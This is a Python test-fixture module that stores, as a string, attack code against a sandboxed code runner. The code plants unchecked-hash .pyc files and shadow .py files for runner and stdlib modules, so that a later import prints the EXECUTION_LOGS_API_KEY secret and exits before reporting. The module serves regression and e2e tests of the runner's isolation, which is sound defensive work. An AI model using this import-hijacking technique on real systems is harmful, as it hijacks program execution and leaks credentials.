"""The .pyc-planting attack on the runner, as user code: shared by the runner and e2e tests.

The code plants one attacker module as an unchecked-hash .pyc under a cache
prefix for every source file of the given trees and stdlib modules, and as
.py files in its working directory. A runner interpreter that honoured
PYTHONPYCACHEPREFIX (or had its cwd on sys.path) would import it after the run,
print MARK with the log API key and exit before reporting.
"""

from __future__ import annotations

from typing import Any

MARK = "HIJACKED-BY-THE-CODE"
# Stdlib modules the runner imports lazily, after the code ran.
LAZY_MODULES = ("hashlib", "traceback", "json", "http", "gzip", "random", "ssl", "zlib")

CODE = """
import importlib.util, marshal, os, sys
evil = (
    "import os, sys\\n"
    "key = os.environ.get('EXECUTION_LOGS_API_KEY', 'none')\\n"
    f"sys.__stdout__.write('{data['mark']} ' + key + '\\\\n')\\n"
    f"sys.__stderr__.write('{data['mark']} ' + key + '\\\\n')\\n"
    "os._exit(0)\\n"
)
# An unchecked-hash .pyc (flags 0b01): loaded without looking at the source.
code = marshal.dumps(compile(evil, "<evil>", "exec"))
pyc = importlib.util.MAGIC_NUMBER + (1).to_bytes(4, "little") + bytes(8) + code
stdlib = os.path.dirname(os.__file__)
roots = list(data["roots"])
for name in data["modules"]:
    roots += [os.path.join(stdlib, name), os.path.join(stdlib, name + ".py")]
sources = []
for root in roots:
    if os.path.isfile(root):
        sources.append(root)
    for directory, _, files in os.walk(root):
        sources += [os.path.join(directory, f) for f in files if f.endswith(".py")]
sys.pycache_prefix = data["prefix"]
for source in sources:
    target = importlib.util.cache_from_source(source)
    os.makedirs(os.path.dirname(target), exist_ok=True)
    with open(target, "wb") as handle:
        handle.write(pyc)
for name in data["modules"]:
    with open(os.path.join(os.getcwd(), name + ".py"), "w") as handle:
        handle.write(evil)
runner_files = sum(s.startswith(tuple(data["roots"])) for s in sources)
result = {"planted": len(sources), "runnerFiles": runner_files}
"""


def attack_data(prefix: str, runner_package_dir: str) -> dict[str, Any]:
    """The code's input: where to plant and which runner sources to shadow."""
    return {"mark": MARK, "prefix": prefix, "roots": [runner_package_dir], "modules": LAZY_MODULES}
